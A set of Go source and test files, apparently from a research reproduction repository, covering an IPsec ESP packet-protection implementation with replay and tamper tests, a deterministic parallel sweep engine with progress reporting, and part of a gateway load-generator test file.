	packetLifetime uint32
	bytesSealed    int

	// mac is the keyed HMAC instance, built once and Reset per packet;
	// icvBuf is its digest scratch.
	mac    hash.Hash
	icvBuf []byte

	// Cached energy/cycle profile frames and per-byte costs, set by
	// SetCostModel; zero Spans (no-ops) until then.
	pCipher     prof.Span
	pMAC        prof.Span
	cipherCost  float64
	macInstCost float64
}

// SetCostModel names the SA's cipher and MAC in the calibrated cost
// tables, enabling per-packet cycle attribution in the energy/cycle
// profiler (frames esp.Protect/<cipher>/cbc and esp.Protect/<mac>).
// Without it the SA still works but contributes no profile frames.
func (sa *SA) SetCostModel(cipher, mac cost.Algorithm) {
	sa.pCipher = prof.Frame("esp.Protect/" + string(cipher) + "/cbc")
	sa.pMAC = prof.Frame("esp.Protect/" + string(mac))
	sa.cipherCost = cost.InstrPerByte(cipher)
	sa.macInstCost = cost.InstrPerByte(mac)
}

// ErrLifetimeExceeded reports an SA past its negotiated lifetime.
var ErrLifetimeExceeded = errors.New("esp: SA lifetime exceeded; rekey required")

// SetLifetime bounds the SA to maxBytes of payload and maxPackets
// packets (either may be 0 for unlimited).
func (sa *SA) SetLifetime(maxBytes int, maxPackets uint32) {
	sa.byteLifetime = maxBytes
	sa.packetLifetime = maxPackets
}

// LifetimeExhausted reports whether the SA must be rekeyed.
func (sa *SA) LifetimeExhausted() bool {
	if sa.byteLifetime > 0 && sa.bytesSealed >= sa.byteLifetime {
		return true
	}
	if sa.packetLifetime > 0 && sa.sendSeq >= sa.packetLifetime {
		return true
	}
	return false
}

// NewSA creates a security association. block encrypts the payload in CBC
// mode with random IVs from rng; newMAC+macKey authenticate the packet.
func NewSA(spi uint32, block modes.Block, newMAC func() hash.Hash, macKey []byte, rng io.Reader) (*SA, error) {
	if block == nil || newMAC == nil || rng == nil {
		return nil, errors.New("esp: nil cipher, MAC or rng")
	}
	if len(macKey) == 0 {
		return nil, errors.New("esp: empty MAC key")
	}
	sa := &SA{SPI: spi, block: block, newMAC: newMAC, macKey: append([]byte{}, macKey...), rng: rng}
	sa.mac = hmac.New(newMAC, sa.macKey)
	sa.icvBuf = make([]byte, 0, sa.mac.Size())
	return sa, nil
}

// icv computes the truncated HMAC into the SA's scratch; the result is
// valid until the next icv call.
func (sa *SA) icv(data []byte) []byte {
	sa.mac.Reset()
	sa.mac.Write(data)
	return sa.mac.Sum(sa.icvBuf[:0])[:ICVLen]
}

// Seal protects a payload into a packet:
//
//	SPI(4) || seq(4) || IV(bs) || CBC(payload padded) || ICV(12)
//
// The ICV covers everything before it.
func (sa *SA) Seal(payload []byte) ([]byte, error) {
	if sa.LifetimeExhausted() {
		return nil, ErrLifetimeExceeded
	}
	sa.sendSeq++
	if sa.sendSeq == 0 {
		return nil, errors.New("esp: sequence number exhausted; rekey required")
	}
	sa.bytesSealed += len(payload)
	bs := sa.block.BlockSize()
	// Build the whole packet in one allocation: the IV is drawn directly
	// into its slot, the payload is padded in place and encrypted in
	// place, and the ICV is written from the cached HMAC's scratch.
	padLen := bs - len(payload)%bs
	total := 8 + bs + len(payload) + padLen + ICVLen
	pkt := make([]byte, total)
	pkt[0], pkt[1], pkt[2], pkt[3] = byte(sa.SPI>>24), byte(sa.SPI>>16), byte(sa.SPI>>8), byte(sa.SPI)
	pkt[4], pkt[5], pkt[6], pkt[7] = byte(sa.sendSeq>>24), byte(sa.sendSeq>>16), byte(sa.sendSeq>>8), byte(sa.sendSeq)
	iv := pkt[8 : 8+bs]
	if _, err := io.ReadFull(sa.rng, iv); err != nil {
		return nil, fmt.Errorf("esp: drawing IV: %w", err)
	}
	body := pkt[8+bs : total-ICVLen]
	copy(body, payload)
	for i := len(payload); i < len(body); i++ {
		body[i] = byte(padLen)
	}
	if err := modes.EncryptCBCInto(sa.block, iv, body, body); err != nil {
		return nil, err
	}
	copy(pkt[total-ICVLen:], sa.icv(pkt[:total-ICVLen]))
	mPacketsSealed.Inc()
	mSealBytes.Add(int64(len(payload)))
	if prof.Enabled() {
		sa.pCipher.AddCycles(int64(sa.cipherCost * float64(len(body))))
		sa.pMAC.AddCycles(int64(sa.macInstCost * float64(total-ICVLen)))
	}
	return pkt, nil
}

// Open verifies, replay-checks and decrypts a packet.
func (sa *SA) Open(pkt []byte) ([]byte, error) {
	bs := sa.block.BlockSize()
	if len(pkt) < 8+bs+ICVLen {
		return nil, ErrTooShort
	}
	spi := uint32(pkt[0])<<24 | uint32(pkt[1])<<16 | uint32(pkt[2])<<8 | uint32(pkt[3])
	if spi != sa.SPI {
		return nil, ErrWrongSPI
	}
	seq := uint32(pkt[4])<<24 | uint32(pkt[5])<<16 | uint32(pkt[6])<<8 | uint32(pkt[7])

	body, icv := pkt[:len(pkt)-ICVLen], pkt[len(pkt)-ICVLen:]
	if !hmac.Equal(icv, sa.icv(body)) {
		mAuthFailures.Inc()
		journal.Emit(int64(seq), journal.LevelWarn, "esp", "auth_failure",
			journal.I("seq", int64(seq)), journal.I("packet_bytes", int64(len(pkt))))
		return nil, ErrAuth
	}
	if err := sa.checkReplay(seq); err != nil {
		mReplaysSeen.Inc()
		journal.Emit(int64(seq), journal.LevelWarn, "esp", "replay",
			journal.I("seq", int64(seq)))
		return nil, err
	}
	iv := body[8 : 8+bs]
	ct := body[8+bs:]
	pt := make([]byte, len(ct))
	if err := modes.DecryptCBCInto(sa.block, iv, ct, pt); err != nil {
		return nil, err
	}
	payload, err := modes.Unpad(pt, bs)
	if err != nil {
		return nil, err
	}
	sa.markSeen(seq)
	mPacketsOpened.Inc()
	mOpenBytes.Add(int64(len(payload)))
	if prof.Enabled() {
		sa.pCipher.AddCycles(int64(sa.cipherCost * float64(len(ct))))
		sa.pMAC.AddCycles(int64(sa.macInstCost * float64(len(body))))
	}
	return payload, nil
}

// checkReplay implements the RFC 2401-style sliding window.
func (sa *SA) checkReplay(seq uint32) error {
	if seq == 0 {
		return ErrReplay
	}
	switch {
	case seq > sa.highestSeq:
		return nil
	case sa.highestSeq-seq >= windowSize:
		return ErrReplay
	default:
		if sa.window&(1<<(sa.highestSeq-seq)) != 0 {
			return ErrReplay
		}
		return nil
	}
}

func (sa *SA) markSeen(seq uint32) {
	if seq > sa.highestSeq {
		shift := seq - sa.highestSeq
		if shift >= windowSize {
			sa.window = 0
		} else {
			sa.window <<= shift
		}
		sa.window |= 1
		sa.highestSeq = seq
	} else {
		sa.window |= 1 << (sa.highestSeq - seq)
	}
}

// SendSeq reports the last sent sequence number.
func (sa *SA) SendSeq() uint32 { return sa.sendSeq }
