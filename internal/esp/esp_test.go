package esp

import (
	"bytes"
	"hash"
	"testing"

	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
)

func newTestSA(t testing.TB, spi uint32, seed string) *SA {
	t.Helper()
	block, err := des.NewTripleCipher(bytes.Repeat([]byte{0x42}, 24))
	if err != nil {
		t.Fatal(err)
	}
	sa, err := NewSA(spi, block, func() hash.Hash { return sha1.New() },
		[]byte("esp-mac-key-20-bytes"), prng.NewDRBG([]byte(seed)))
	if err != nil {
		t.Fatal(err)
	}
	return sa
}

// pairSA returns sender and receiver SAs with identical keys.
func pairSA(t testing.TB) (*SA, *SA) {
	return newTestSA(t, 0x1001, "tx"), newTestSA(t, 0x1001, "rx")
}

func TestSealOpenRoundtrip(t *testing.T) {
	tx, rx := pairSA(t)
	for _, msg := range [][]byte{
		{},
		[]byte("ip datagram"),
		bytes.Repeat([]byte{7}, 1400),
	} {
		pkt, err := tx.Seal(msg)
		if err != nil {
			t.Fatal(err)
		}
		got, err := rx.Open(pkt)
		if err != nil {
			t.Fatalf("Open: %v", err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("roundtrip mismatch (%d bytes)", len(msg))
		}
	}
}

func TestSequenceNumbersIncrease(t *testing.T) {
	tx, _ := pairSA(t)
	tx.Seal([]byte("a")) //nolint:errcheck
	tx.Seal([]byte("b")) //nolint:errcheck
	if tx.SendSeq() != 2 {
		t.Fatalf("SendSeq = %d, want 2", tx.SendSeq())
	}
}

func TestReplayRejected(t *testing.T) {
	tx, rx := pairSA(t)
	pkt, _ := tx.Seal([]byte("once"))
	if _, err := rx.Open(pkt); err != nil {
		t.Fatal(err)
	}
	if _, err := rx.Open(pkt); err != ErrReplay {
		t.Fatalf("replay: want ErrReplay, got %v", err)
	}
}

func TestOutOfOrderWithinWindowAccepted(t *testing.T) {
	tx, rx := pairSA(t)
	var pkts [][]byte
	for i := 0; i < 5; i++ {
		p, _ := tx.Seal([]byte{byte(i)})
		pkts = append(pkts, p)
	}
	// Deliver 0, 3, 1, 4, 2 — all within the window, all fresh.
	for _, i := range []int{0, 3, 1, 4, 2} {
		if _, err := rx.Open(pkts[i]); err != nil {
			t.Fatalf("packet %d rejected: %v", i, err)
		}
	}
	// Now each is a replay.
	for i := range pkts {
		if _, err := rx.Open(pkts[i]); err != ErrReplay {
			t.Fatalf("packet %d re-delivery: want ErrReplay, got %v", i, err)
		}
	}
}

func TestStaleBeyondWindowRejected(t *testing.T) {
	tx, rx := pairSA(t)
	first, _ := tx.Seal([]byte("first"))
	// Advance the sender far beyond the window.
	var last []byte
	for i := 0; i < windowSize+5; i++ {
		last, _ = tx.Seal([]byte("advance"))
	}
	if _, err := rx.Open(last); err != nil {
		t.Fatal(err)
	}
	if _, err := rx.Open(first); err != ErrReplay {
		t.Fatalf("stale packet: want ErrReplay, got %v", err)
	}
}

func TestTamperDetected(t *testing.T) {
	tx, rx := pairSA(t)
	pkt, _ := tx.Seal([]byte("integrity"))
	for _, idx := range []int{0, 5, 9, len(pkt) - 1} {
		bad := append([]byte{}, pkt...)
		bad[idx] ^= 0x40
		_, err := rx.Open(bad)
		if err == nil {
			t.Fatalf("tamper at byte %d accepted", idx)
		}
	}
}

func TestWrongSPI(t *testing.T) {
	tx, _ := pairSA(t)
	other := newTestSA(t, 0x2002, "rx")
	pkt, _ := tx.Seal([]byte("spi"))
	if _, err := other.Open(pkt); err != ErrWrongSPI {
		t.Fatalf("want ErrWrongSPI, got %v", err)
	}
}

func TestTooShort(t *testing.T) {
	_, rx := pairSA(t)
	if _, err := rx.Open(make([]byte, 10)); err != ErrTooShort {
		t.Fatalf("want ErrTooShort, got %v", err)
	}
}

func TestNewSAValidation(t *testing.T) {
	block, _ := des.NewTripleCipher(make([]byte, 24))
	newH := func() hash.Hash { return sha1.New() }
	rng := prng.NewDRBG(nil)
	if _, err := NewSA(1, nil, newH, []byte("k"), rng); err == nil {
		t.Error("accepted nil block")
	}
	if _, err := NewSA(1, block, nil, []byte("k"), rng); err == nil {
		t.Error("accepted nil MAC")
	}
	if _, err := NewSA(1, block, newH, nil, rng); err == nil {
		t.Error("accepted empty MAC key")
	}
	if _, err := NewSA(1, block, newH, []byte("k"), nil); err == nil {
		t.Error("accepted nil rng")
	}
}

func TestUniqueIVs(t *testing.T) {
	tx, _ := pairSA(t)
	seen := map[string]bool{}
	for i := 0; i < 50; i++ {
		pkt, err := tx.Seal([]byte("payload"))
		if err != nil {
			t.Fatal(err)
		}
		iv := string(pkt[8 : 8+8])
		if seen[iv] {
			t.Fatal("IV repeated")
		}
		seen[iv] = true
	}
}

// TestLifetimeLimits: an SA past its byte or packet lifetime refuses to
// seal until rekeyed — the IPSec rekey discipline.
func TestLifetimeLimits(t *testing.T) {
	tx, _ := pairSA(t)
	tx.SetLifetime(100, 0)
	if _, err := tx.Seal(make([]byte, 60)); err != nil {
		t.Fatal(err)
	}
	if _, err := tx.Seal(make([]byte, 60)); err != nil {
		t.Fatal(err) // crosses 100 bytes during this packet; allowed
	}
	if !tx.LifetimeExhausted() {
		t.Fatal("byte lifetime should be exhausted")
	}
	if _, err := tx.Seal([]byte("more")); err != ErrLifetimeExceeded {
		t.Fatalf("want ErrLifetimeExceeded, got %v", err)
	}

	tx2 := newTestSA(t, 0x1001, "tx")
	tx2.SetLifetime(0, 3)
	for i := 0; i < 3; i++ {
		if _, err := tx2.Seal([]byte("x")); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := tx2.Seal([]byte("x")); err != ErrLifetimeExceeded {
		t.Fatalf("want ErrLifetimeExceeded after 3 packets, got %v", err)
	}
	// A fresh SA (rekey) continues.
	tx3 := newTestSA(t, 0x1001, "tx-rekeyed")
	if _, err := tx3.Seal([]byte("x")); err != nil {
		t.Fatalf("rekeyed SA failed: %v", err)
	}
}

func TestUnlimitedLifetimeByDefault(t *testing.T) {
	tx, _ := pairSA(t)
	for i := 0; i < 200; i++ {
		if _, err := tx.Seal(make([]byte, 100)); err != nil {
			t.Fatal(err)
		}
	}
	if tx.LifetimeExhausted() {
		t.Fatal("default SA should be unlimited")
	}
}
