package esp

import "testing"

// FuzzOpen: arbitrary packets against a live SA must error cleanly (and
// never panic); valid packets are covered by the unit tests.
func FuzzOpen(f *testing.F) {
	tx, rx := pairSA(f)
	good, err := tx.Seal([]byte("seed packet"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(good)
	f.Add([]byte{})
	f.Add(good[:9])
	f.Fuzz(func(t *testing.T, data []byte) {
		rx.Open(data) //nolint:errcheck // must not panic
	})
}
