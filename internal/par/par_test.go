package par

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync/atomic"
	"testing"
)

func TestMapPreservesOrder(t *testing.T) {
	items := make([]int, 1000)
	for i := range items {
		items[i] = i
	}
	for _, workers := range []int{1, 2, 7, 64} {
		got, err := Map(context.Background(), workers, items, func(i, v int) (int, error) {
			return v * v, nil
		})
		if err != nil {
			t.Fatal(err)
		}
		for i, v := range got {
			if v != i*i {
				t.Fatalf("workers=%d: slot %d = %d, want %d", workers, i, v, i*i)
			}
		}
	}
}

func TestMapLowestIndexedErrorWins(t *testing.T) {
	items := make([]int, 256)
	// Both 7 and 31 fail; the sequential semantics demand index 7's error.
	_, err := Map(context.Background(), 8, items, func(i, _ int) (int, error) {
		if i == 7 || i == 31 {
			return 0, fmt.Errorf("item %d failed", i)
		}
		return 0, nil
	})
	if err == nil || err.Error() != "item 7 failed" {
		t.Fatalf("err = %v, want item 7's error", err)
	}
}

func TestMapSingleWorkerIsSequential(t *testing.T) {
	var order []int
	_, err := Map(context.Background(), 1, make([]int, 50), func(i, _ int) (int, error) {
		order = append(order, i)
		return 0, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range order {
		if v != i {
			t.Fatalf("execution order %v not sequential", order)
		}
	}
}

func TestForNRunsAll(t *testing.T) {
	var n atomic.Int64
	if err := ForN(context.Background(), 4, 333, func(int) error {
		n.Add(1)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if n.Load() != 333 {
		t.Fatalf("ran %d tasks, want 333", n.Load())
	}
}

func TestGridCoversEveryCell(t *testing.T) {
	const rows, cols = 17, 9
	var hits [rows][cols]atomic.Int64
	if err := Grid(context.Background(), 6, rows, cols, func(r, c int) error {
		hits[r][c].Add(1)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	for r := 0; r < rows; r++ {
		for c := 0; c < cols; c++ {
			if hits[r][c].Load() != 1 {
				t.Fatalf("cell (%d,%d) hit %d times", r, c, hits[r][c].Load())
			}
		}
	}
}

func TestContextCancellationStopsSweep(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var started atomic.Int64
	err := ForN(ctx, 2, 10000, func(i int) error {
		if started.Add(1) == 10 {
			cancel()
		}
		return nil
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if started.Load() == 10000 {
		t.Fatal("cancellation did not stop the sweep early")
	}
}

func TestTaskErrorBeatsContextError(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	boom := errors.New("boom")
	err := ForN(ctx, 2, 100, func(i int) error {
		if i == 3 {
			cancel()
			return boom
		}
		return nil
	})
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want task error to win over ctx error", err)
	}
}

func TestDefaultWorkers(t *testing.T) {
	SetDefaultWorkers(0)
	if got, want := DefaultWorkers(), runtime.GOMAXPROCS(0); got != want {
		t.Fatalf("DefaultWorkers = %d, want GOMAXPROCS %d", got, want)
	}
	SetDefaultWorkers(3)
	if DefaultWorkers() != 3 {
		t.Fatalf("DefaultWorkers = %d after SetDefaultWorkers(3)", DefaultWorkers())
	}
	SetDefaultWorkers(-5)
	if got, want := DefaultWorkers(), runtime.GOMAXPROCS(0); got != want {
		t.Fatalf("negative SetDefaultWorkers did not restore default: %d != %d", got, want)
	}
	SetDefaultWorkers(0)
}

func TestEmptyInputs(t *testing.T) {
	out, err := Map(context.Background(), 4, []int(nil), func(i, v int) (int, error) { return 0, nil })
	if err != nil || len(out) != 0 {
		t.Fatalf("empty Map: out=%v err=%v", out, err)
	}
	if err := Grid(context.Background(), 4, 0, 5, func(r, c int) error { return errors.New("no") }); err != nil {
		t.Fatalf("empty Grid: %v", err)
	}
}

func TestMapConcurrentSweeps(t *testing.T) {
	// Sweeps must be safe to launch from multiple goroutines (a sweep
	// inside a sweep happens when tests run figures in parallel).
	t.Parallel()
	for g := 0; g < 4; g++ {
		g := g
		t.Run(fmt.Sprintf("g%d", g), func(t *testing.T) {
			t.Parallel()
			items := make([]int, 200)
			got, err := Map(context.Background(), 3, items, func(i, _ int) (int, error) {
				return i + g, nil
			})
			if err != nil {
				t.Fatal(err)
			}
			for i := range got {
				if got[i] != i+g {
					t.Fatalf("slot %d = %d, want %d", i, got[i], i+g)
				}
			}
		})
	}
}
