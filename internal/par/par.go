// Package par is the parallel sweep engine behind the repository's
// embarrassingly-parallel hot loops: the Figure 3 latency×rate grid, the
// loss-figure BER sweep, side-channel trace collection and correlation,
// and the accelerator ablation.
//
// Every entry point is a worker pool with deterministic result ordering:
// item i's result always lands in slot i, so the output is byte-identical
// whether the sweep runs on one worker or many — a hard requirement, since
// the calibrated cost model in internal/cost must produce bit-identical
// figures regardless of the host's core count. Errors are deterministic
// too: when several items fail, the error of the lowest-indexed item wins,
// matching what a sequential loop would have returned first.
package par

import (
	"context"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/obs"
	"repro/internal/obs/journal"
)

// Sweep-cell metric handles. Per-task timing reads the clock only when
// the registry is armed, so a disarmed sweep pays one flag check per
// task claim.
var (
	mSweeps   = obs.C("par.sweeps")
	mTasks    = obs.C("par.tasks")
	mTaskNS   = obs.H("par.task_ns", obs.DurationBuckets)
	mWorkers  = obs.G("par.last_sweep_workers")
	mSweepLen = obs.G("par.last_sweep_tasks")
)

// defaultWorkers holds the process-wide default worker count; 0 means
// "use runtime.GOMAXPROCS(0) at call time".
var defaultWorkers atomic.Int64

// SetDefaultWorkers sets the process-wide default worker count used when a
// sweep is invoked with workers <= 0. Passing n <= 0 restores the
// GOMAXPROCS default. It is how cmd/gapfig and cmd/lossfig implement their
// -workers flag without threading a parameter through every API.
func SetDefaultWorkers(n int) {
	if n < 0 {
		n = 0
	}
	defaultWorkers.Store(int64(n))
}

// DefaultWorkers reports the worker count a sweep with workers <= 0 will
// use: the SetDefaultWorkers override if set, else runtime.GOMAXPROCS(0).
func DefaultWorkers() int {
	if n := defaultWorkers.Load(); n > 0 {
		return int(n)
	}
	return runtime.GOMAXPROCS(0)
}

// clampWorkers resolves the effective worker count for n items.
func clampWorkers(workers, n int) int {
	if workers <= 0 {
		workers = DefaultWorkers()
	}
	if workers > n {
		workers = n
	}
	if workers < 1 {
		workers = 1
	}
	return workers
}

// run dispatches n indexed tasks over the pool and returns the error of
// the lowest-indexed failed task (or ctx.Err if the context was canceled
// before all tasks completed). Tasks are claimed with an atomic counter,
// so with one worker they execute strictly in index order, reproducing a
// sequential loop exactly.
func run(ctx context.Context, workers, n int, task func(i int) error) error {
	if n <= 0 {
		return ctx.Err()
	}
	workers = clampWorkers(workers, n)
	mSweeps.Inc()
	mWorkers.Set(float64(workers))
	mSweepLen.Set(float64(n))
	measure := obs.Enabled()
	tr := beginSweep(workers, n)
	defer tr.endSweep()
	// Task events carry t_sim = task index and never the worker id or the
	// process-local sweep ordinal, so the merged journal is byte-identical
	// at any -workers count and across runs of the same workload.
	jdebug := journal.On(journal.LevelDebug)
	var (
		next     atomic.Int64
		errMu    sync.Mutex
		firstErr error
		errIdx   = n
		failed   atomic.Bool
	)
	record := func(i int, err error) {
		errMu.Lock()
		if i < errIdx {
			errIdx, firstErr = i, err
		}
		errMu.Unlock()
		failed.Store(true)
	}
	var wg sync.WaitGroup
	wg.Add(workers)
	for w := 0; w < workers; w++ {
		go func(w int) {
			defer wg.Done()
			for {
				if failed.Load() {
					return
				}
				if err := ctx.Err(); err != nil {
					record(n, err) // context error loses to any task error
					return
				}
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				if jdebug {
					journal.Emit(int64(i), journal.LevelDebug, "par", "task_start",
						journal.I("task", int64(i)))
				}
				var t0 time.Time
				if measure {
					t0 = time.Now()
				}
				err := task(i)
				if measure {
					mTasks.Inc()
					mTaskNS.Observe(time.Since(t0).Nanoseconds())
				}
				tr.done.Add(1)
				tr.perW[w].Add(1)
				if err != nil {
					if jdebug {
						journal.Emit(int64(i), journal.LevelDebug, "par", "task_error",
							journal.I("task", int64(i)), journal.S("err", err.Error()))
					}
					record(i, err)
					return
				}
				if jdebug {
					journal.Emit(int64(i), journal.LevelDebug, "par", "task_finish",
						journal.I("task", int64(i)))
				}
			}
		}(w)
	}
	wg.Wait()
	if errIdx < n {
		return firstErr
	}
	if err := ctx.Err(); err != nil {
		return err
	}
	return nil
}

// ForN runs fn(0..n-1) on the pool. workers <= 0 selects the default.
func ForN(ctx context.Context, workers, n int, fn func(i int) error) error {
	return run(ctx, workers, n, fn)
}

// Map applies fn to every item, returning results in input order. A
// failed or canceled sweep returns a nil slice along with the error of
// the lowest-indexed failure.
func Map[T, R any](ctx context.Context, workers int, items []T, fn func(i int, item T) (R, error)) ([]R, error) {
	out := make([]R, len(items))
	err := run(ctx, workers, len(items), func(i int) error {
		r, err := fn(i, items[i])
		if err != nil {
			return err
		}
		out[i] = r
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}

// Grid runs fn over every (row, col) cell of a rows×cols grid in row-major
// claim order, for the latency×rate surfaces.
func Grid(ctx context.Context, workers, rows, cols int, fn func(row, col int) error) error {
	if rows <= 0 || cols <= 0 {
		return ctx.Err()
	}
	return run(ctx, workers, rows*cols, func(i int) error {
		return fn(i/cols, i%cols)
	})
}
