package par

import (
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/obs"
)

// Live sweep progress for the obs /progress endpoint. run() publishes a
// fresh tracker per sweep; workers bump per-worker atomic counters, so
// the accounting adds two atomic increments per task. Concurrent sweeps
// (rare outside tests) follow last-started-wins, which is the right
// behavior for a monitor: it shows what the process is doing now.
type tracker struct {
	sweep   int64
	total   int64
	startNS int64
	done    atomic.Int64
	perW    []atomic.Int64
	active  atomic.Bool
}

var (
	progMu   sync.Mutex
	progCur  *tracker
	sweepSeq atomic.Int64
)

// beginSweep publishes a tracker for a starting sweep.
func beginSweep(workers, n int) *tracker {
	t := &tracker{
		sweep:   sweepSeq.Add(1),
		total:   int64(n),
		startNS: time.Now().UnixNano(),
		perW:    make([]atomic.Int64, workers),
	}
	t.active.Store(true)
	progMu.Lock()
	progCur = t
	progMu.Unlock()
	return t
}

// endSweep marks t finished; it stays visible (inactive) until the next
// sweep replaces it, so /progress keeps reporting the final state.
func (t *tracker) endSweep() { t.active.Store(false) }

func init() {
	obs.SetProgressSource(ProgressJSON)
}

// ProgressJSON renders the current sweep's progress for the /progress
// endpoint:
//
//	{"active":true,"sweep":2,"total":54,"done":31,"workers":8,
//	 "per_worker":[4,4,...],"elapsed_ms":12,"eta_ms":9,"tasks_per_sec":2583.3}
//
// eta_ms extrapolates from completed tasks (-1 before the first task
// finishes); with no sweep started yet it returns {"active":false}.
func ProgressJSON() []byte {
	progMu.Lock()
	t := progCur
	progMu.Unlock()
	if t == nil {
		return []byte(`{"active":false,"total":0,"done":0}` + "\n")
	}
	done := t.done.Load()
	elapsedMS := (time.Now().UnixNano() - t.startNS) / 1e6
	etaMS := int64(-1)
	if done > 0 {
		etaMS = elapsedMS * (t.total - done) / done
	}
	tps := 0.0
	if elapsedMS > 0 {
		tps = float64(done) / (float64(elapsedMS) / 1000)
	}
	var b strings.Builder
	b.WriteString(`{"active":`)
	b.WriteString(strconv.FormatBool(t.active.Load()))
	b.WriteString(`,"sweep":`)
	b.WriteString(strconv.FormatInt(t.sweep, 10))
	b.WriteString(`,"total":`)
	b.WriteString(strconv.FormatInt(t.total, 10))
	b.WriteString(`,"done":`)
	b.WriteString(strconv.FormatInt(done, 10))
	b.WriteString(`,"workers":`)
	b.WriteString(strconv.Itoa(len(t.perW)))
	b.WriteString(`,"per_worker":[`)
	for i := range t.perW {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(strconv.FormatInt(t.perW[i].Load(), 10))
	}
	b.WriteString(`],"elapsed_ms":`)
	b.WriteString(strconv.FormatInt(elapsedMS, 10))
	b.WriteString(`,"eta_ms":`)
	b.WriteString(strconv.FormatInt(etaMS, 10))
	b.WriteString(`,"tasks_per_sec":`)
	b.WriteString(strconv.FormatFloat(tps, 'f', 1, 64))
	b.WriteString("}\n")
	return []byte(b.String())
}
