package par

import (
	"context"
	"encoding/json"
	"testing"

	"repro/internal/obs"
)

func TestProgressJSON(t *testing.T) {
	if err := ForN(context.Background(), 3, 10, func(int) error { return nil }); err != nil {
		t.Fatal(err)
	}
	var p struct {
		Active    bool    `json:"active"`
		Sweep     int64   `json:"sweep"`
		Total     int64   `json:"total"`
		Done      int64   `json:"done"`
		Workers   int     `json:"workers"`
		PerWorker []int64 `json:"per_worker"`
		ElapsedMS int64   `json:"elapsed_ms"`
		ETAMS     int64   `json:"eta_ms"`
	}
	blob := ProgressJSON()
	if err := json.Unmarshal(blob, &p); err != nil {
		t.Fatalf("ProgressJSON not valid JSON: %v\n%s", err, blob)
	}
	if p.Active {
		t.Fatal("finished sweep still reported active")
	}
	if p.Total != 10 || p.Done != 10 {
		t.Fatalf("done/total = %d/%d, want 10/10", p.Done, p.Total)
	}
	if p.Workers != 3 || len(p.PerWorker) != 3 {
		t.Fatalf("workers = %d, per_worker = %v", p.Workers, p.PerWorker)
	}
	var sum int64
	for _, n := range p.PerWorker {
		sum += n
	}
	if sum != 10 {
		t.Fatalf("per-worker counts sum to %d, want 10", sum)
	}
	if p.ETAMS != 0 {
		t.Fatalf("eta_ms = %d for a finished sweep, want 0", p.ETAMS)
	}
}

func TestProgressSourceRegistered(t *testing.T) {
	// The init hook must have wired this package into obs so the CLI can
	// expose /progress without importing par.
	fn := obs.ProgressSource()
	if fn == nil {
		t.Fatal("par did not register a progress source with obs")
	}
	if blob := fn(); len(blob) == 0 || blob[0] != '{' {
		t.Fatalf("unexpected progress payload %q", blob)
	}
}
