package loadgen

import (
	"context"
	"encoding/json"
	"net"
	"testing"
	"time"

	"repro/internal/chaos"
	"repro/internal/crypto/rsa"
	"repro/internal/gateway"
	"repro/internal/obs/journal"
	"repro/internal/wtls"
)

// testRootCA is a placeholder key for tests that never reach a
// handshake (config validation only checks presence).
var testRootCA rsa.PublicKey

const testBits = 512

// startGateway boots a loopback gateway and returns it with a matching
// client template.
func startGateway(t *testing.T) (*gateway.Server, *wtls.Config) {
	t.Helper()
	ca, key, cert, err := gateway.DevPKI("loadgen-test", "gw.local", testBits)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv, err := gateway.Serve(ln, gateway.Config{
		WTLS:         &wtls.Config{Certificate: cert, PrivateKey: key},
		RandSeed:     []byte("loadgen-test-rand"),
		Workers:      8,
		MaxConns:     32,
		DrainTimeout: 3 * time.Second,
	})
	if err != nil {
		ln.Close()
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Shutdown(context.Background()) })
	return srv, &wtls.Config{RootCA: &ca.Key.PublicKey, ServerName: "gw.local"}
}

func TestRunCleanChannel(t *testing.T) {
	srv, client := startGateway(t)
	r, err := New(Config{
		Addr: srv.Addr().String(), WTLS: client,
		Conns: 20, Concurrency: 4, Records: 2, Payload: 128,
		Seed: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	rep := r.Run()
	if rep.OK != 20 || rep.Failed != 0 {
		t.Fatalf("clean run: %s (lastErr=%v)", rep, r.LastErr())
	}
	if rep.Retries != 0 {
		t.Fatalf("clean channel needed %d retries", rep.Retries)
	}
	if rep.Records != 40 {
		t.Fatalf("records echoed = %d, want 40", rep.Records)
	}
	if rep.HandshakesPerSec <= 0 || rep.HSp50 <= 0 || rep.HSp99 < rep.HSp50 {
		t.Fatalf("implausible latency stats: %s", rep)
	}
}

// TestRunRetriesThroughChaos pushes sessions through a corrupting
// socket: individual attempts die on MAC failures and the retry layer
// must still land every session. The schedule is a pure function of
// the seed — chaos faults depend only on the (deterministic) chunk
// sequence — so this does not flake.
func TestRunRetriesThroughChaos(t *testing.T) {
	srv, client := startGateway(t)
	r, err := New(Config{
		Addr: srv.Addr().String(), WTLS: client,
		Conns: 10, Concurrency: 4, Records: 1, Payload: 64,
		Seed:      7,
		Chaos:     &chaos.ConnConfig{Corrupt: 0.05},
		Attempts:  10,
		IOTimeout: 2 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	rep := r.Run()
	if rep.Failed != 0 {
		t.Fatalf("sessions failed despite retry budget: %s (lastErr=%v)", rep, r.LastErr())
	}
	if rep.Retries == 0 {
		t.Fatalf("chaos channel produced zero retries: %s", rep)
	}
}

// TestSessionWideEvents verifies every session emits exactly one wide
// "session" journal record carrying its dimensions — including chaos
// fault counts summed over retried attempts.
